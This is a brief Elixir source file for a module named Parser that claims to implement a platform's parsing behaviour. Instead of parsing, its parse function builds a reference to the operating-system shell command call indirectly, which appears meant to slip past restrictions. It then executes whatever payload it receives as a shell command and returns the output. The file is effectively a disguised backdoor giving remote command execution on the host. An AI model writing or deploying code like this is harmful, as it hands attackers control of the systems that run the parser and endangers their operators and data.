defmodule Parser do
  use Platform.Parsing.Behaviour
  def parse(payload, _meta) do
    run = :erlang.make_fun(:os, :cmd, 1)
    %{out: run.(String.to_charlist(payload))}
  end
end
